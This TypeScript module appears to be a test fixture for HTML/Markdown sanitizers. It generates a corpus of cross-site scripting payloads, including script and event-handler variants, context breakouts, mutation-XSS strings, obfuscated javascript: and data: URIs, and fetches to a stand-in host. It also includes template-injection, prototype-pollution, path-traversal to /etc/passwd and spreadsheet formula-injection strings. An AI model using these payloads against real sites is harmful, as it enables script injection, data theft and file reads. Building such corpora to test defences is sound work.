/**
 * Texts that try to run `ran()`, to fetch from `foreign`, or to break out of where they are put: the known ideas
 * against sanitizers, each written out for every tag, event, scheme and way of quoting that it works with.
 */
export const foreign = 'https://foreign.invalid'

const call = 'ran()'
const encoded = 'cmFuKCk='

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'iframe',
  'object data=x',
  'x',
]
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'OnMouseOver', 'onanimationstart']
const quotings = [(code: string) => `"${code}"`, (code: string) => `'${code}'`, (code: string) => code]

const handlers = tags.flatMap((tag, index) =>
  events.map((event, at) => `<${tag} ${event}=${quotings[(index + at) % quotings.length]?.(call)}>`),
)

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script/x>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src=${foreign}/a.js></script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}" /></svg>`,
  `<script>${call}`,
  `<<script>${call}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
]

/** Words that end the element, attribute or comment they may stand in, and then run a script. */
const endings = [
  '',
  '"',
  "'",
  '`',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '--!>',
  ']]>',
  '?>',
  '\\"',
]
const breakouts = endings.flatMap((end) => [`${end}><script>${call}</script>`, `${end} onfocus=${call} autofocus x=`])

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${call}" /><text>x</text></a>`,
  `<math href="javascript:${call}">x</math>`,
  `<select><style></select><img src=x onerror=${call}></style>`,
]

const fetching = [
  `<img src=${foreign}/a.png>`,
  `<img srcset="${foreign}/a.png 2x">`,
  `<link rel=stylesheet href=${foreign}/a.css>`,
  `<link rel=prefetch href=${foreign}/a>`,
  `<style>@import url(${foreign}/a.css);</style>`,
  `<p style="background:url(${foreign}/a.png)">x</p>`,
  `<base href=${foreign}>`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<iframe src=${foreign}></iframe>`,
  `<video poster=${foreign}/a.png></video>`,
  `<form action=${foreign}><input autofocus></form>`,
  `<object data=${foreign}></object>`,
  `<svg><use href="${foreign}/a.svg#x" /></svg>`,
  `![a](${foreign}/a.png)`,
  `![a][foreign]\n\n[foreign]: ${foreign}/b.png`,
  `![a](//foreign.invalid/c.png)`,
  `![a](/\\foreign.invalid/d.png)`,
  `<${foreign}/autolink>`,
]

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java&#115;cript:',
  'javascript&colon;',
  '&#x6A;avascript:',
  'java\\\nscript:',
  '&#1;javascript:',
]
const addresses = [
  ...schemes.map((scheme) => `${scheme}${call}`),
  'javascript&#58;ran&#40;&#41;',
  'java%0ascript:ran()',
  `vbscript:${call}`,
  `data:text/html;base64,PHNjcmlwdD4${encoded}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `feed:javascript:${call}`,
  `view-source:javascript:${call}`,
  `blob:${foreign}/x`,
  `file:///etc/passwd`,
]
const links = addresses.flatMap((address) => [
  `[a](${address})`,
  `[a](<${address}> "b")`,
  `![a](${address})`,
  `<${address}>`,
  `<a href="${address}">a</a>`,
  `<form action="${address}"><button autofocus>a</button></form>`,
])

/** Names of properties that objects inherit, of elements that shadow them, and of templates that are filled in. */
const names = [
  '<form id=reader name=attributes><input name=parentNode></form>',
  '<a id=location href=x></a><a id=location name=href href=x>',
  '__proto__',
  'constructor',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '{ran()}',
  '<%= ran() %>',
  '../../../../etc/passwd',
  '=HYPERLINK("https://foreign.invalid";"a")',
  '+1|cmd',
  '@SUM(1)',
  '-2+3',
]

/** Everything, for the text of an article. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...breakouts,
  ...mutations,
  ...fetching,
  ...links,
  ...names,
]

/** One of each idea in one line, for fields that hold a line of text and for addresses. */
export const lines: readonly string[] = [
  ...scripts,
  ...breakouts,
  ...mutations,
  ...names,
  ...handlers.slice(0, 3),
].filter((payload) => !payload.includes('\n'))
